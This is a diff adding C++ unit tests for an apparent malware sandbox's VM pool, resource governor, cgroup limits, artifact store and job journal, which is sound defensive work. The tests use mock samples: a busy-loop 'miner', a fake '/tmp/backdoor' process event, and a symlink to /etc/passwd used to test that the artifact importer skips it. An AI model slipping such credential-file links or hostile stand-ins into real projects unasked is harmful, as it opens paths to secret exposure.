+    std::ofstream(proc / "meminfo") << "MemTotal:  4194304 kB\nMemAvailable:  1048576 kB\n";
+    std::ofstream(proc / "stat") << "cpu  100 0 100 700 100 0 0 0 0 0\ncpu0 1 2 3\n";
+    HostProbe probe(proc.string());
+    HostLoad load = probe.sample();
+    EXPECT_EQ(load.available_mb, 1024u);
+    EXPECT_DOUBLE_EQ(load.cpu_busy, 0.2);
+    std::ofstream(proc / "stat") << "cpu  190 0 100 710 100 0 0 0 0 0\n";
+    EXPECT_DOUBLE_EQ(probe.sample().cpu_busy, 0.9);
+}
+
+TEST(SafeBoxTests, Governor_AdmissionControl) {
+    HostTopology topology;
+    topology.nodes.push_back(HostNode{0, {0, 1, 2, 3}, 4096});
+    HostLoad load{8192, 0.1};
+    GovernorOptions options;
+    options.reserve_mb = 1024;
+    options.max_cpu_busy = 0.9;
+    ResourceGovernor governor(options, topology, [&load] { return load; });
+
+    VMConfig vm{"kvm", "a", "", "safebox", 22};
+    vm.resources.memory_mb = 1024;
+    std::vector<VMConfig> vms(4, vm);
+    for (int i = 0; i < 4; ++i) vms[i].vm_name = "vm" + std::to_string(i);
+    std::string reason;
+    EXPECT_TRUE(governor.admit(vms[0]));
+    EXPECT_TRUE(governor.admit(vms[0]));
+    EXPECT_TRUE(governor.admit(vms[1]));
+    EXPECT_TRUE(governor.admit(vms[2]));
+    EXPECT_EQ(governor.committed_mb(), 3072u);
+    EXPECT_FALSE(governor.admit(vms[3], &reason));
+    EXPECT_NE(reason.find("3072 of 3072 MB"), std::string::npos);
+    governor.release(vms[1]);
+    governor.release(vms[1]);
+    EXPECT_EQ(governor.committed_mb(), 2048u);
+
+    load.cpu_busy = 0.95;
+    EXPECT_FALSE(governor.admit(vms[3], &reason));
+    EXPECT_EQ(reason, "host CPUs 95% busy");
+    load = HostLoad{512, 0.1};
+    EXPECT_FALSE(governor.admit(vms[3], &reason));
+    EXPECT_EQ(reason, "only 512 MB of host RAM available");
+    load.available_mb = 4096;
+    EXPECT_TRUE(governor.admit(vms[3]));
+}
+
+// Counts how many VMs are powered on at once.
+struct CountingBackend : InstantBackend {
+    static std::atomic<int> running, peak, configured;
+    int start(const std::string &name) override {
+        int now = ++running;
+        for (int p = peak; now > p && !peak.compare_exchange_weak(p, now);) {
+        }
+        return InstantBackend::start(name);
+    }
+    int revert(const std::string &) override { return --running, 0; }
+    int configure(const std::string &, const VMResources &res) override {
+        if (res.cpus.size() == 2) ++configured;
+        return 0;
+    }
+};
+std::atomic<int> CountingBackend::running{0}, CountingBackend::peak{0}, CountingBackend::configured{0};
+
+TEST(SafeBoxTests, VMPool_GovernorCapsPoweredOnVms) {
+    namespace fs = std::filesystem;
+    register_backend("counting", [] { return std::make_unique<CountingBackend>(); });
+    TempDir root_dir("governor-test");
+    const fs::path &root = root_dir.path();
+    std::ofstream(root / "sample.bin") << "MZ";
+
+    HostTopology topology;
+    topology.nodes.push_back(HostNode{0, {0, 1, 2, 3, 4, 5, 6, 7, 8}, 2048});
+    GovernorOptions governor_options;
+    governor_options.pin = true;
+    governor_options.reserve_mb = 1024;
+    ResourceGovernor governor(governor_options, topology, [] { return HostLoad{4096, 0}; });
+    std::vector<VMConfig> vms;
+    for (int i = 0; i < 4; ++i) vms.push_back(VMConfig{"counting", "vm" + std::to_string(i), "", "safebox", 22});
+    governor.place(vms);
+
+    // Room for two 512 MB guests out of four VMs.
+    PoolOptions options;
+    options.governor = &governor;
+    VMPool pool(vms, options);
+    pool.start();
+    for (int i = 0; i < 6; ++i) {
+        pool.submit(Job{(root / "sample.bin").string(), (root / "reports" / std::to_string(i)).string()});
+    }
+    pool.drain();
+    EXPECT_EQ(pool.completed(), 6);
+    EXPECT_EQ(CountingBackend::configured.load(), 4);
+    EXPECT_EQ(CountingBackend::peak.load(), 2);
+    EXPECT_EQ(governor.committed_mb(), 0u);
+}
+
+// Agent that reports a pegged CPU (miner.bin), an idle process
+// (sleeper.bin) or an idle one that starts a backdoor (dropper.bin), then
+// hangs instead of ending the report.
+struct LingeringBackend : InstantBackend {
+    Argv guest_command(const SshSession &, const std::string &remote_cmd) override {
+        if (remote_cmd.find("agent.py") == std::string::npos) return {"true"};
+        std::string cpu = remote_cmd.find("miner.bin") != std::string::npos ? "97.5" : "0.0";
+        std::string child = remote_cmd.find("dropper.bin") == std::string::npos ? "" :
+            " echo '{\"type\": \"event\", \"time\": \"t2\", \"event\": \"process-created\", \"pid\": 8,"
+            " \"cmdline\": [\"/tmp/backdoor\", \"-d\"]}';";
+        return {"sh", "-c", "echo '{\"type\": \"start\", \"time\": \"t0\", \"path\": \"x\"}';"
+                            " echo '{\"type\": \"process\", \"time\": \"t1\", \"pid\": 7, \"cpu_percent\": " + cpu +
+                            ", \"memory\": {\"rss\": 8388608, \"vms\": 0}}';" + child + " sleep 30"};
+    }
+    int inject(const std::string &, const SshSession &, const std::string &file, std::string &remote) override {
+        remote = file;
+        return 0;
+    }
+};
+
+TEST(SafeBoxTests, VMPool_EndsSettledAndIdleRunsEarly) {
+    namespace fs = std::filesystem;
+    register_backend("lingering", [] { return std::make_unique<LingeringBackend>(); });
+    TempDir root_dir("early-stop-test");
+    const fs::path &root = root_dir.path();
+    std::ofstream(root / "miner.bin") << "MZ";
+    std::ofstream(root / "sleeper.bin") << "MZ";
+    std::ofstream(root / "dropper.bin") << "MZ";
+
+    std::vector<VMConfig> vms;
+    for (int i = 0; i < 2; ++i) vms.push_back(VMConfig{"lingering", "vm" + std::to_string(i), "", "safebox", 22});
+    PoolOptions options;
+    options.stop_score = 40;  // CPU + crypto mining rules
+    options.idle_timeout = 1;
+    auto start = std::chrono::steady_clock::now();
+    {
+        VMPool pool(vms, options);
+        pool.start();
+        pool.submit(Job{(root / "miner.bin").string(), (root / "miner").string()});
+        pool.submit(Job{(root / "sleeper.bin").string(), (root / "sleeper").string()});
+        pool.submit(Job{(root / "dropper.bin").string(), (root / "dropper").string()});
+        pool.drain();
+        EXPECT_EQ(pool.completed(), 3);
+    }
+    EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(10));
+
+    auto report_of = [&](const std::string &job) {
+        for (const auto &entry : fs::directory_iterator(root / job)) {
+            if (entry.path().filename().string().rfind("report-", 0) != 0) continue;
+            AgentReport report;
+            EXPECT_TRUE(load_agent_report(entry.path().string(), report));
+            return report;
+        }
+        return AgentReport();
+    };
+    AgentReport miner = report_of("miner");
+    ReportSummary summary = summarize_report(miner);
+    EXPECT_EQ(summary.outcome, "stopped");
+    EXPECT_FALSE(miner.end_time.empty());
+    EXPECT_GE(score_report(summary).score, 40);
+    AgentReport sleeper = report_of("sleeper");
+    EXPECT_EQ(summarize_report(sleeper).outcome, "stopped");
+    ASSERT_FALSE(sleeper.events.empty());
+    EXPECT_EQ(sleeper.events.back().event, "early-stop");
+    Verdict dropper = score_report(summarize_report(report_of("dropper")));
+    EXPECT_GE(dropper.score, 100);
+    EXPECT_NE(std::find(dropper.detections.begin(), dropper.detections.end(), "Signature match: Generic Trojan"),
+              dropper.detections.end());
+
+    std::string text = global_metrics().exposition();
+    EXPECT_NE(text.find("safebox_early_stops_total{backend=\"lingering\",reason=\"verdict\"} 2"), std::string::npos);
+    EXPECT_NE(text.find("safebox_early_stops_total{backend=\"lingering\",reason=\"idle\"} 1"), std::string::npos);
+    EXPECT_NE(analysis_fingerprint("kvm", 120, ReportFormat::Json, 40), analysis_fingerprint("kvm", 120));
+}
+
+TEST(SafeBoxTests, ContainerBackend_CgroupLimitsAndAccounting) {
+    namespace fs = std::filesystem;
+    TempDir root_dir("cgroup-test");
+    const fs::path &root = root_dir.path();
+    auto read = [](const fs::path &path) {
+        std::ifstream in(path);
+        std::string line;
+        std::getline(in, line);
+        return line;
+    };
+
+    CgroupLimits limits;
+    limits.cpus = 2;
+    limits.memory_mb = 256;
+    limits.pids = 64;
+    limits.cpuset = {2, 3};
+    ASSERT_EQ(create_cgroup((root / "sb0").string(), limits), 0);
+    EXPECT_EQ(read(root / "sb0/cpu.max"), "200000 100000");
+    EXPECT_EQ(read(root / "sb0/memory.max"), "268435456");
+    EXPECT_EQ(read(root / "sb0/memory.swap.max"), "0");
+    EXPECT_EQ(read(root / "sb0/pids.max"), "64");
+    EXPECT_EQ(read(root / "sb0/cpuset.cpus"), "2-3");
+    ASSERT_EQ(create_cgroup((root / "sb1").string(), CgroupLimits{0, 0, 0, {}}), 0);
+    EXPECT_EQ(read(root / "sb1/cpu.max"), "max 100000");
+    EXPECT_EQ(read(root / "sb1/memory.max"), "max");
+
+    CgroupStats stats;
+    EXPECT_FALSE(read_cgroup_stats((root / "sb0").string(), stats));
+    std::ofstream(root / "sb0/cpu.stat") << "usage_usec 1500000\nuser_usec 1000000\nsystem_usec 500000\n"
+                                            "nr_periods 10\nnr_throttled 2\nthrottled_usec 250000\n";
+    std::ofstream(root / "sb0/memory.current") << "10485760\n";
+    std::ofstream(root / "sb0/memory.events") << "low 0\nhigh 0\nmax 3\noom 1\noom_kill 1\n";
+    std::ofstream(root / "sb0/pids.current") << "5\n";
+    ASSERT_TRUE(read_cgroup_stats((root / "sb0").string(), stats));
+    EXPECT_EQ(stats.cpu_usec, 1500000u);
+    EXPECT_EQ(stats.throttled_usec, 250000u);
+    EXPECT_EQ(stats.memory_bytes, 10485760u);
+    EXPECT_EQ(stats.memory_peak, 0u);  // no memory.peak on older kernels
+    EXPECT_EQ(stats.oom_kills, 1u);
+    EXPECT_EQ(stats.pids, 5u);
+    Json json = cgroup_stats_json(stats);
+    EXPECT_DOUBLE_EQ(json.number_or("cpu_seconds", 0), 1.5);
+    EXPECT_DOUBLE_EQ(json.number_or("memory_mb", 0), 10.0);
+    EXPECT_EQ(remove_cgroup((root / "missing").string()), 0);
+
+    // The run joins the cgroup, as the session's user, with the share.
+    ContainerBackend backend((root / "safebox").string());
+    backend.set_share_root((root / "shares").string());
+    SshSession session = backend.open_session("analyst@sb0", 0);
+    EXPECT_FALSE(backend.probe_guest(session, 10));
+    Argv argv = backend.guest_command(session, "echo ok");
+    ASSERT_EQ(argv.size(), 9u);
+    EXPECT_EQ(argv[4], (root / "safebox/sb0").string());
+    EXPECT_EQ(argv[5], (root / "shares/sb0").string());
+    EXPECT_EQ(argv[6], "analyst");
+    EXPECT_EQ(argv[7], "echo ok");
+    EXPECT_EQ(argv[8], (root / "shares/sb0-out").string());
+    EXPECT_TRUE(backend.usage("sb0").is_null());
+}
+
+// Drives the real ContainerBackend through boot, probe and run, with a
+// python3 stub on PATH standing in for the agent. Needs root and a cgroup
+// v2 hierarchy that offers the controllers the default limits use.
+TEST(SafeBoxTests, VMPool_RunsContainerSandboxes) {
+    namespace fs = std::filesystem;
+    std::string hierarchy;
+    std::ifstream mounts("/proc/mounts");
+    std::string device, dir, type, rest;
+    while (mounts >> device >> dir >> type && std::getline(mounts, rest)) {
+        if (type != "cgroup2") continue;
+        std::ifstream in(dir + "/cgroup.controllers");
+        std::set<std::string> controllers{std::istream_iterator<std::string>(in), {}};
+        if (controllers.count("cpu") && controllers.count("memory") && controllers.count("pids")) hierarchy = dir;
+    }
+    if (geteuid() != 0 || hierarchy.empty() || execute_command({"unshare", "--version"}).return_code != 0 ||
+        execute_command({"id", "nobody"}).return_code != 0) {
+        GTEST_SKIP() << "needs root, cgroup v2 with cpu, memory and pids, unshare and a nobody user";
+    }
+    TempDir root_dir("container-pool-test");
+    const fs::path &root = root_dir.path();
+    std::string cgroups = hierarchy + "/safebox-test-" + std::to_string(getpid());
+    fs::create_directories(root / "bin");
+    // Reports the cgroup it runs in and what it finds in its output dir,
+    // then leaves a file there for the next run on the slot to find.
+    std::ofstream(root / "bin/python3")
+        << "#!/bin/sh\n"
+           "out=/home/nobody/out\n"
+           "echo '{\"type\": \"start\", \"time\": \"t0\", \"path\": \"x\"}'\n"
+           "printf '{\"type\": \"event\", \"time\": \"t1\", \"event\": \"process-created\", \"pid\": 2,"
+           " \"cmdline\": [\"%s\", \"out:%s\"]}\\n' \"$(grep '^0::' /proc/self/cgroup | cut -d: -f3)\" \"$(ls -A $out)\"\n"
+           "touch $out/marker\n"
+           "echo '{\"type\": \"end\", \"time\": \"t2\"}'\n";
+    fs::permissions(root / "bin/python3", fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec |
+                                              fs::perms::others_read | fs::perms::others_exec);
+    std::ofstream(root / "sample.bin") << "MZ";
+    bool had_out = fs::exists("/home/nobody/out"), had_home = fs::exists("/home/nobody");
+
+    register_backend("container-test", [&] {
+        auto backend = std::make_unique<ContainerBackend>(cgroups);
+        backend->set_share_root((root / "shares").string());
+        return backend;
+    });
+    std::string old_path = getenv("PATH");
+    setenv("PATH", ((root / "bin").string() + ":" + old_path).c_str(), 1);
+    {
+        std::vector<VMConfig> vms;
+        for (int i = 0; i < 2; ++i) {
+            vms.push_back(VMConfig{"container-test", "ct" + std::to_string(i), "", "nobody", 0});
+            vms.back().ssh_host = "";
+        }
+        PoolOptions options;
+        options.ssh_timeout = 10;
+        VMPool pool(vms, options);
+        pool.start();
+        for (int i = 0; i < 4; ++i) pool.submit(Job{(root / "sample.bin").string(), (root / std::to_string(i)).string()});
+        pool.drain();
+        EXPECT_EQ(pool.completed(), 4);
+        EXPECT_EQ(pool.failed(), 0);
+    }
+    setenv("PATH", old_path.c_str(), 1);
+    for (int i = 0; i < 2; ++i) {
+        EXPECT_FALSE(fs::exists(root / "shares" / ("ct" + std::to_string(i) + "-out")));
+        remove_cgroup(cgroups + "/ct" + std::to_string(i));
+    }
+    remove_cgroup(cgroups);
+    std::error_code ec;
+    if (!had_out) fs::remove("/home/nobody/out", ec);
+    if (!had_home) fs::remove("/home/nobody", ec);
+
+    // Each run was in its own slot's cgroup and found its output dir empty.
+    for (int i = 0; i < 4; ++i) {
+        std::ifstream in(root / std::to_string(i) / "job.json");
+        std::stringstream text;
+        text << in.rdbuf();
+        Json record;
+        ASSERT_TRUE(parse_json(text.str(), record)) << i;
+        EXPECT_EQ(record.number_or("exit_code", -1), 0);
+        std::string vm = record.string_or("vm", "");
+        AgentReport report;
+        for (const auto &entry : fs::directory_iterator(root / std::to_string(i))) {
+            if (entry.path().filename().string().rfind("report-", 0) == 0) {
+                EXPECT_TRUE(load_agent_report(entry.path().string(), report));
+            }
+        }
+        ASSERT_EQ(report.events.size(), 1u) << i;
+        EXPECT_EQ(report.events[0].cmdline, cgroups.substr(hierarchy.size()) + "/" + vm + " out:");
+    }
+}
+
+// Stands in for the container tier: records whether a run happened there
+// and reports heavy CPU for "miner" samples.
+struct TierBackend : InstantBackend {
+    Argv guest_command(const SshSession &, const std::string &remote_cmd) override {
+        if (remote_cmd.find("agent.py") == std::string::npos) return {"true"};
+        std::string cpu = remote_cmd.find("miner") != std::string::npos ? "97.5" : "0.0";
+        return {"sh", "-c", "echo '{\"type\": \"start\", \"time\": \"t0\", \"path\": \"x\"}';"
+                            " echo '{\"type\": \"process\", \"time\": \"t1\", \"pid\": 7, \"cpu_percent\": " + cpu +
+                            ", \"memory\": {\"rss\": 8388608, \"vms\": 0}}';"
+                            " echo '{\"type\": \"end\", \"time\": \"t2\"}'"};
+    }
+    Json usage(const std::string &) override {
+        Json usage = Json::object();
+        usage["pids"] = Json(1.0);
+        return usage;
+    }
+};
+
+TEST(SafeBoxTests, VMPool_ContainerTierEscalatesRiskySamples) {
+    namespace fs = std::filesystem;
+    register_backend("container", [] { return std::make_unique<TierBackend>(); });
+    register_backend("instant", [] { return std::make_unique<InstantBackend>(); });
+    TempDir root_dir("tier-test");
+    const fs::path &root = root_dir.path();
+    std::ofstream(root / "quiet.sh") << "#!/bin/sh\necho hello\n";
+    std::ofstream(root / "miner.sh") << "#!/bin/sh\nwhile :; do :; done\n";
+
+    std::vector<VMConfig> vms{VMConfig{"container", "ct0", "", "safebox", 0},
+                              VMConfig{"instant", "vm0", "", "safebox", 22}};
+    PoolOptions options;
+    options.static_triage = true;
+    options.escalate_score = 40;
+    {
+        VMPool pool(vms, options);
+        pool.start();
+        pool.submit(Job{(root / "quiet.sh").string(), (root / "quiet").string(), "quiet"});
+        pool.submit(Job{(root / "miner.sh").string(), (root / "miner").string(), "miner"});
+        pool.drain();
+        EXPECT_EQ(pool.completed(), 2);
+    }
+
+    auto record_of = [&](const std::string &job) {
+        std::ifstream in(root / job / "job.json");
+        std::stringstream text;
+        text << in.rdbuf();
+        Json record;
+        EXPECT_TRUE(parse_json(text.str(), record));
+        return record;
+    };
+    Json quiet = record_of("quiet");
+    EXPECT_EQ(quiet.string_or("vm", ""), "ct0");
+    EXPECT_EQ(quiet.string_or("tier", ""), "container");
+    ASSERT_NE(quiet.find("usage"), nullptr);
+    EXPECT_DOUBLE_EQ(quiet.find("usage")->number_or("pids", 0), 1.0);
+    Json miner = record_of("miner");
+    EXPECT_EQ(miner.string_or("vm", ""), "vm0");
+    EXPECT_EQ(miner.string_or("tier", ""), "vm");
+    EXPECT_EQ(miner.find("usage"), nullptr);
+    // The container run's report and usage are kept beside the VM's.
+    EXPECT_TRUE(fs::exists(root / "miner/container/usage.json"));
+    EXPECT_TRUE(fs::exists(root / "miner/triage.json"));
+    bool stashed = false;
+    for (const auto &entry : fs::directory_iterator(root / "miner/container")) {
+        stashed = stashed || entry.path().filename().string().rfind("report-", 0) == 0;
+    }
+    EXPECT_TRUE(stashed);
+
+    std::string text = global_metrics().exposition();
+    EXPECT_NE(text.find("backend=\"container\",status=\"escalated\"} 1"), std::string::npos);
+}
+
+TEST(SafeBoxTests, ArtifactStore_DeduplicatesByContent) {
+    namespace fs = std::filesystem;
+    TempDir root_dir("artifacts-test");
+    const fs::path &root = root_dir.path();
+    auto stage = [&](const std::string &name, const std::string &log) {
+        fs::path staging = root / ("staging-" + name);
+        fs::create_directories(staging / "dropped");
+        std::ofstream(staging / "out-1.log") << log;
+        std::ofstream(staging / "dropped/payload.bin") << "same payload";
+        fs::create_symlink("/etc/passwd", staging / "passwd");
+        return staging.string();
+    };
+    ArtifactStore store((root / "store").string());
+
+    std::vector<Artifact> first, second;
+    ASSERT_TRUE(import_artifacts(stage("a", "first run"), (root / "a").string(), &store, first));
+    ASSERT_TRUE(import_artifacts(stage("b", "second run"), (root / "b").string(), &store, second));
+    // Sorted by path; the symlink is not an artifact.
+    ASSERT_EQ(first.size(), 2u);
+    ASSERT_EQ(second.size(), 2u);
+    EXPECT_EQ(first[0].path, "dropped/payload.bin");
+    EXPECT_EQ(first[0].size, 12u);
+    EXPECT_TRUE(first[0].added);
+    EXPECT_FALSE(second[0].added);
+    EXPECT_TRUE(second[1].added);
+    EXPECT_EQ(first[0].sha256, sha256_hex("same payload"));
+    EXPECT_TRUE(fs::equivalent(root / "a/artifacts/dropped/payload.bin", root / "b/artifacts/dropped/payload.bin"));
+    EXPECT_TRUE(fs::exists(store.entry_path(second[1].sha256)));
+    EXPECT_FALSE(fs::exists(root / "staging-a"));
+    EXPECT_FALSE(fs::exists(root / "a/artifacts/passwd"));
+
+    std::ifstream in(root / "b/artifacts.json");
+    std::stringstream text;
+    text << in.rdbuf();
+    Json list;
+    ASSERT_TRUE(parse_json(text.str(), list));
+    ASSERT_EQ(list.items().size(), 2u);
+    EXPECT_EQ(list.items()[1].string_or("path", ""), "out-1.log");
+    EXPECT_EQ(list.items()[0].find("new")->as_bool(), false);
+}
+
+// Runs the "guest" commands locally, with the guest's output dir moved
+// under a temp directory; the agent leaves a log and a dropped file there.
+struct ArtifactBackend : InstantBackend {
+    static std::string guest_dir;
+    Argv guest_command(const SshSession &, const std::string &remote_cmd) override {
+        std::string cmd = remote_cmd;
+        for (size_t at; (at = cmd.find("/home/safebox/out")) != std::string::npos;) {
+            cmd.replace(at, std::strlen("/home/safebox/out"), guest_dir);
+        }
+        if (cmd.find("agent.py") == std::string::npos) return {"sh", "-c", cmd};
+        return {"sh", "-c", "mkdir -p " + guest_dir + "; echo run $$ > " + guest_dir + "/out-$$.log;"
+                            " echo dropper > " + guest_dir + "/drop.bin;"
+                            " echo '{\"type\": \"start\", \"time\": \"t0\", \"path\": \"x\"}';"
+                            " echo '{\"type\": \"end\", \"time\": \"t1\"}'"};
+    }
+};
+std::string ArtifactBackend::guest_dir;
+
+TEST(SafeBoxTests, VMPool_CollectsArtifactsThroughTheLoop) {
+    namespace fs = std::filesystem;
+    if (execute_command({"sh", "-c", "command -v zstd && command -v tar"}).return_code != 0) {
+        GTEST_SKIP() << "zstd or tar not installed";
+    }
+    TempDir root_dir("collect-test");
+    const fs::path &root = root_dir.path();
+    std::ofstream(root / "sample.bin") << "MZ";
+    ArtifactBackend::guest_dir = (root / "guest").string();
+    register_backend("artifacts", [] { return std::make_unique<ArtifactBackend>(); });
+
+    ArtifactStore store((root / "store").string());
+    PoolOptions options;
+    options.artifacts = &store;
+    {
+        VMPool pool({VMConfig{"artifacts", "vm0", "", "safebox", 22}}, options);
+        pool.start();
+        for (int i = 0; i < 3; ++i) {
+            pool.submit(Job{(root / "sample.bin").string(), (root / ("job" + std::to_string(i))).string()});
+        }
+        pool.drain();
+        EXPECT_EQ(pool.completed(), 3);
+    }
+    for (int i = 0; i < 3; ++i) {
+        fs::path dir = root / ("job" + std::to_string(i));
+        EXPECT_TRUE(fs::exists(dir / "artifacts/drop.bin")) << dir;
+        EXPECT_TRUE(fs::exists(dir / "artifacts.json"));
+        EXPECT_FALSE(fs::exists(dir / ".artifacts"));
+    }
+    // One drop.bin and three distinct logs; the guest dir is emptied each time.
+    size_t entries = 0;
+    for (auto it = fs::recursive_directory_iterator(root / "store"); it != fs::recursive_directory_iterator(); ++it) {
+        if (it->is_regular_file()) ++entries;
+    }
+    EXPECT_EQ(entries, 4u);
+    EXPECT_TRUE(fs::is_empty(root / "guest"));
+    std::string text = global_metrics().exposition();
+    EXPECT_NE(text.find("safebox_artifact_bytes_total{backend=\"artifacts\",stored=\"duplicate\"} 16"),
+              std::string::npos);
+}
+
+TEST(SafeBoxTests, JobJournal_ReplaysAndCompacts) {
+    namespace fs = std::filesystem;
+    TempDir root_dir("journal-test");
+    const fs::path &root = root_dir.path();
+    std::string path = (root / "journal.jsonl").string();
+    Job a{"/samples/a.exe", "/reports/a"}, b{"/samples/b.exe", "/reports/b"}, c{"/samples/c.exe", "/reports/c"};
+    b.id = "b";
+    b.tags = {"dropper"};
+    b.priority = Priority::Interactive;
+    b.attempt = 1;
+    b.deadline = 300;
+    b.submitted = std::chrono::steady_clock::now() - std::chrono::seconds(120);
+    {
+        JobJournal journal(path);
+        ASSERT_TRUE(journal.open());
+        journal.submitted(a);
+        journal.submitted(b);
+        journal.submitted(c);
+        journal.dispatched(b, "vm0");
+        journal.phase(b, "inject");
+        journal.completed(a, 0);
+        journal.vm_stage("vm0", "busy");
+        journal.vm_stage("vm1", "ready", "10.0.0.5");
+        journal.sync();
+    }
+    // A crash in the middle of a write.
+    std::ofstream(path, std::ios::app) << "{\"op\": \"sub";
+
+    for (int pass = 0; pass < 2; ++pass) {
+        JobJournal journal(path);
+        ASSERT_TRUE(journal.open());
+        const JournalState &state = journal.recovered();
+        // The compacted file replays to the same state.
+        EXPECT_EQ(state.skipped, pass == 0 ? 1 : 0);
+        ASSERT_EQ(state.pending.size(), 2u);
+        EXPECT_EQ(state.pending[0].id, "b");
+        EXPECT_EQ(state.pending[0].journal_seq, b.journal_seq);
+        EXPECT_EQ(state.pending[0].tags, std::vector<std::string>{"dropper"});
+        EXPECT_EQ(state.pending[0].priority, Priority::Interactive);
+        EXPECT_EQ(state.pending[0].attempt, 1);
+        EXPECT_EQ(state.pending[0].deadline, 300);
+        // Still two minutes into its deadline, not a fresh submission.
+        auto age = std::chrono::steady_clock::now() - state.pending[0].submitted;
+        EXPECT_GT(age, std::chrono::seconds(119));
+        EXPECT_LT(age, std::chrono::seconds(130));
+        EXPECT_EQ(state.pending[1].report_dir, "/reports/c");
+        ASSERT_EQ(state.interrupted.size(), 1u);
+        EXPECT_EQ(state.interrupted.at(b.journal_seq), "inject");
+        EXPECT_EQ(state.jobs, (std::set<std::string>{"/reports/a", "b", "/reports/c"}));
+        EXPECT_EQ(state.vms.at("vm0").stage, "busy");
+        EXPECT_EQ(state.vms.at("vm1").host, "10.0.0.5");
+    }
+    {
+        JobJournal journal(path);
+        ASSERT_TRUE(journal.open());
+        Job d{"/samples/d.exe", "/reports/d"};
+        journal.submitted(d);
+        EXPECT_GT(d.journal_seq, c.journal_seq);
+        journal.drained();
+    }
+    JobJournal journal(path);
+    ASSERT_TRUE(journal.open());
+    EXPECT_TRUE(journal.recovered().pending.empty());
+    EXPECT_TRUE(journal.recovered().jobs.empty());
+    EXPECT_TRUE(journal.recovered().vms.empty());
+    journal.close();
+}
+
+// Logs every start and revert, per VM.
+struct RecoveryBackend : InstantBackend {
+    static std::mutex mutex;
+    static std::map<std::string, std::vector<std::string>> calls;
+    int start(const std::string &vm_name) override {
+        std::lock_guard<std::mutex> lock(mutex);
+        calls[vm_name].push_back("start");
+        return 0;
+    }
+    int revert(const std::string &vm_name) override {
+        std::lock_guard<std::mutex> lock(mutex);
+        calls[vm_name].push_back("revert");
+        return 0;
+    }
+};
+std::mutex RecoveryBackend::mutex;
+std::map<std::string, std::vector<std::string>> RecoveryBackend::calls;
+
+TEST(SafeBoxTests, VMPool_ResumesFromJournal) {
+    namespace fs = std::filesystem;
+    register_backend("recovery", [] { return std::make_unique<RecoveryBackend>(); });
+    TempDir root_dir("resume-test");
+    const fs::path &root = root_dir.path();
+    std::ofstream(root / "sample.bin") << "MZ";
+    std::string path = (root / "journal.jsonl").string();
+    auto job = [&](const std::string &id) {
+        Job j{(root / "sample.bin").string(), (root / id).string()};
+        j.id = id;
+        return j;
+    };
+    // What a pool killed mid-run leaves: vm0 booted and idle, vm1 running
+    // "interrupted", "finished" done.
+    {
+        JobJournal journal(path);
+        ASSERT_TRUE(journal.open());
+        Job interrupted = job("interrupted"), finished = job("finished");
+        journal.submitted(finished);
+        journal.submitted(interrupted);
+        journal.vm_stage("vm0", "ready", "127.0.0.1");
+        journal.vm_stage("vm1", "busy");
+        journal.dispatched(interrupted, "vm1");
+        journal.completed(finished, 0);
+    }
+
+    JobJournal journal(path);
+    ASSERT_TRUE(journal.open());
+    PoolOptions options;
+    options.journal = &journal;
+    {
+        VMPool pool({VMConfig{"recovery", "vm0", "", "safebox", 22}, VMConfig{"recovery", "vm1", "", "safebox", 22}},
+                    options);
+        pool.start();
+        pool.submit(job("finished"));
+        pool.submit(job("fresh"));
+        pool.drain();
+        EXPECT_EQ(pool.completed(), 2);
+        EXPECT_EQ(pool.failed(), 0);
+    }
+    EXPECT_FALSE(fs::exists(root / "finished/job.json"));
+    EXPECT_TRUE(fs::exists(root / "fresh/job.json"));
+    // vm0 took a job as it was; vm1 was cleaned up before it booted again.
+    ASSERT_FALSE(RecoveryBackend::calls["vm0"].empty());
+    EXPECT_EQ(RecoveryBackend::calls["vm0"].front(), "revert");
+    ASSERT_FALSE(RecoveryBackend::calls["vm1"].empty());
+    EXPECT_EQ(RecoveryBackend::calls["vm1"].front(), "revert");
+    bool reattached = false;
+    for (const char *id : {"interrupted", "fresh"}) {
+        std::ifstream in(root / id / "job.json");
+        std::stringstream text;
+        text << in.rdbuf();
+        Json record;
+        ASSERT_TRUE(parse_json(text.str(), record)) << id;
+        const Json *phases = record.find("phases");
+        if (phases && phases->find("reattach")) reattached = true;
+    }
+    EXPECT_TRUE(reattached);
+
+    // A clean drain leaves nothing to resume.
+    journal.close();
+    ASSERT_TRUE(journal.open());
+    EXPECT_TRUE(journal.recovered().pending.empty());
+    EXPECT_TRUE(journal.recovered().jobs.empty());
+    journal.close();
+}
+
+// Copies the journal as injection starts: all a host that crashed there
+// would find on disk, while a stalled writer still holds the rest.
+struct CrashingBackend : RecoveryBackend {
+    static std::string journal, crash;
+    int inject(const std::string &, const SshSession &, const std::string &file, std::string &remote) override {
+        if (!crash.empty()) std::filesystem::copy_file(journal, crash, std::filesystem::copy_options::overwrite_existing);
+        remote = file;
+        return 0;
+    }
+};
+std::string CrashingBackend::journal;
+std::string CrashingBackend::crash;
+
+TEST(SafeBoxTests, VMPool_JournalsDispatchBeforeInject) {
+    namespace fs = std::filesystem;
+    register_backend("crashing", [] { return std::make_unique<CrashingBackend>(); });
+    TempDir root_dir("dispatch-test");
+    const fs::path &root = root_dir.path();
+    std::ofstream(root / "sample.bin") << "MZ";
+    CrashingBackend::journal = (root / "journal.jsonl").string();
+    CrashingBackend::crash = (root / "crashed.jsonl").string();
+    Job job{(root / "sample.bin").string(), (root / "job").string()};
+    job.id = "job";
+    std::vector<VMConfig> vms{VMConfig{"crashing", "crash0", "", "safebox", 22}};
+    {
+        JobJournal journal(CrashingBackend::journal);
+        journal.set_batch_hook([] { std::this_thread::sleep_for(std::chrono::milliseconds(200)); });
+        ASSERT_TRUE(journal.open());
+        PoolOptions options;
+        options.journal = &journal;
+        VMPool pool(vms, options);
+        pool.start();
+        pool.submit(job);
+        pool.drain();
+        EXPECT_EQ(pool.completed(), 1);
+    }
+    CrashingBackend::crash.clear();
+
+    // Restarted from what was on disk then: the VM was busy, so it is
+    // reverted and the job runs again on a clean one.
+    JobJournal journal((root / "crashed.jsonl").string());
+    ASSERT_TRUE(journal.open());
+    auto vm = journal.recovered().vms.find("crash0");
+    ASSERT_NE(vm, journal.recovered().vms.end());
+    EXPECT_EQ(vm->second.stage, "busy");
+    ASSERT_EQ(journal.recovered().pending.size(), 1u);
+    EXPECT_EQ(journal.recovered().interrupted.size(), 1u);
+    RecoveryBackend::calls["crash0"].clear();
+    fs::remove_all(root / "job");
+    PoolOptions options;
+    options.journal = &journal;
+    {
+        VMPool pool(vms, options);
+        pool.start();
+        pool.drain();
+        EXPECT_EQ(pool.completed(), 1);
+    }
